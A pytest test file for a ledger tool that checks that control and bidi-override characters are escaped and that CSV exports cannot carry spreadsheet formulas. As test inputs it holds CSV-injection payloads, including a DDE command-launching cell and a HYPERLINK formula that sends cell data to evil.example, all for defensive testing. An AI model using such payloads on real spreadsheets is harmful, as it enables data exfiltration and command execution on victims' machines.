"""Hostile text: control and bidirectional-override characters never reach a journal as
themselves (escaped as <U+XXXX>, noted in the report), and exports cannot carry a formula
into Excel."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from ledger import books, cleantext
from scripts.cli import main
from tests.test_bank_golden import GOLDEN, golden_books

SPLIT = (GOLDEN / "passbook" / "split.csv").read_text(encoding="utf-8")
HOSTILE = ["\x00", "\x1b[31m", "\u202e", "\u2066", "\u200b", "\ufeff", "\x7f", "\x08"]


@given(st.text())
def test_cleaned_text_holds_no_unsafe_character_and_cleaning_is_idempotent(text: str) -> None:
    cleaned, _codes = cleantext.clean(text)
    assert not any(cleantext.unsafe(char) for char in cleaned)
    assert "\n" not in cleaned and "\t" not in cleaned
    assert cleantext.clean(cleaned) == (cleaned, [])


def test_each_unsafe_character_is_shown_by_its_code_point() -> None:
    assert cleantext.clean("TRF \u202eANI\x00 X") == ("TRF <U+202E>ANI<U+0000> X", ["U+202E", "U+0000"])
    assert cleantext.clean("Toko Maju, Jl. Mawar") == ("Toko Maju, Jl. Mawar", [])


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x","klik")', '\'=HYPERLINK("http://x","klik")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-19400", "-19400"),
        ("+62 812 3456", "+62 812 3456"),
        ("Rina", "Rina"),
        (-5, -5),
    ],
)
def test_spreadsheet_cells_cannot_start_a_formula(value: object, safe: object) -> None:
    assert cleantext.spreadsheet_cell(value) == safe


@pytest.mark.parametrize("bad", HOSTILE)
def test_a_statement_description_with_a_control_character_is_booked_escaped(tmp_path: Path, bad: str) -> None:
    paths = golden_books(tmp_path / "books")
    statement = tmp_path / "mutasi.csv"
    statement.write_text(SPLIT.replace("PENARIKAN TUNAI", f"PENARIKAN{bad}TUNAI"), encoding="utf-8")
    result = CliRunner().invoke(main, ["import", "--books", str(paths.root), str(statement)])
    assert result.exit_code == 0, result.output
    code = f"U+{ord(bad[0]):04X}"
    assert f"{statement}:10: control or invisible characters escaped: {code}" in result.output
    text = "".join(p.read_text(encoding="utf-8") for p in paths.journal.glob("*.beancount"))
    assert not any(cleantext.unsafe(char) for char in text.replace("\n", "").replace("\t", ""))
    assert f"PENARIKAN<{code}>" in text
    assert books.load(paths).errors == []


def test_identity_export_escapes_formulas(tmp_path: Path) -> None:
    runner = CliRunner()
    root, key = tmp_path / "books", tmp_path / "secret" / "k.key"
    assert runner.invoke(main, ["init", str(root), "--key", str(key)]).exit_code == 0
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Rina")'
    result = runner.invoke(
        main, ["identity", "add", "P0001", "--name", evil, "--books", str(root), "--key", str(key)]
    )
    assert result.exit_code == 0, result.output
    out = tmp_path / "export.csv"
    result = runner.invoke(
        main, ["identity", "export", "--out", str(out), "--books", str(root), "--key", str(key)]
    )
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][1] == "'" + evil
